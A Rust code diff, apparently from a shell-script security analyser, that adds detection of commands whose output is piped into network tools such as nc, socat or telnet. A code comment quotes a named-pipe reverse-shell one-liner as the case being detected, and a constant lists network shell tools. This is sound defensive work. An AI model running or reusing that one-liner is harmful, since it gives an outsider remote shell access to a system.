@@ -67,6 +67,11 @@ pub fn producer_verb(words: &[Word]) -> (String, Vec<Word>) {
 
 /// What feeds a command's stdin, as a program source.
 pub fn stdin_producer(script: &Script, command: &SimpleCommand) -> Producer {
+    // `cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f`: a program whose
+    // output goes to a connection is driven from it.
+    if output_to_connection(script, command) {
+        return Producer::Network("a connection its output goes to".into());
+    }
     match &command.stdin {
         Stdin::Heredoc { body, literal } => {
             if *literal {
@@ -137,6 +142,19 @@ pub fn stdin_producer(script: &Script, command: &SimpleCommand) -> Producer {
 /// `/dev/tcp/HOST/PORT` or `/dev/udp/…`: bash opens a connection.
 pub fn is_network_path(path: &str) -> bool {
     path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
+}
+
+/// Whether a later pipeline stage fed by `command` is a raw connection
+/// (`nc`, `ncat`, `socat`, `telnet`, `openssl`).
+fn output_to_connection(script: &Script, command: &SimpleCommand) -> bool {
+    const CONNECTIONS: &[&str] = &["nc", "ncat", "netcat", "openssl", "socat", "telnet"];
+    let Some(index) = script.commands.iter().position(|c| c.span == command.span) else {
+        return false;
+    };
+    script.commands.iter().any(|c| {
+        matches!(&c.stdin, Stdin::Pipe(range) if range.contains(&index))
+            && CONNECTIONS.contains(&producer_verb(&c.words).0.as_str())
+    })
 }
 
 /// Whether any command of the line redirects to or from the network.
